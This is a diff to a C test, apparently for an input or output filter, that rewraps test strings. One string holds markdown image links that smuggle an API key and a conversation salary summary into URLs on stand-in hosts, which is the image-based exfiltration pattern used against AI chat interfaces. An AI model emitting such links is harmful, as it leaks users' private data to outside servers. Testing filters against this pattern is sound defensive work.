@@ -764,13 +764,14 @@ strict_lets_people_ask(void **state)
     size_t  i;
 
     static const char *const  asked[] = {
-        ASK("why do 8.8.8.8, 9.9.9.9 and 1.1.1.1 answer, or 2001:4860:4860::8888"
-            " and 8.8.4.4?"),
+        ASK("why do 8.8.8.8, 9.9.9.9 and 1.1.1.1 answer, or "
+            "2001:4860:4860::8888 and 8.8.4.4?"),
         ASK("![x](https://a.example/p.png?q=the%20api%20key%20is%2012345) "
             "![](http://203.0.113.9/conversation+summary:+salary+90k.gif)"),
-        ASK("Traceback (most recent call last):\\n  File \\\"a.py\\\", line 1, in "
-            "<module>\\n    f()\\nValueError: bad\\nTraceback (most recent call "
-            "last):\\n  File \\\"b.py\\\", line 2, in f\\n    g()\\nKeyError: 1"),
+        ASK("Traceback (most recent call last):\\n"
+            "  File \\\"a.py\\\", line 1, in <module>\\n    f()\\n"
+            "ValueError: bad\\nTraceback (most recent call last):\\n"
+            "  File \\\"b.py\\\", line 2, in f\\n    g()\\nKeyError: 1"),
         NULL
     };
 
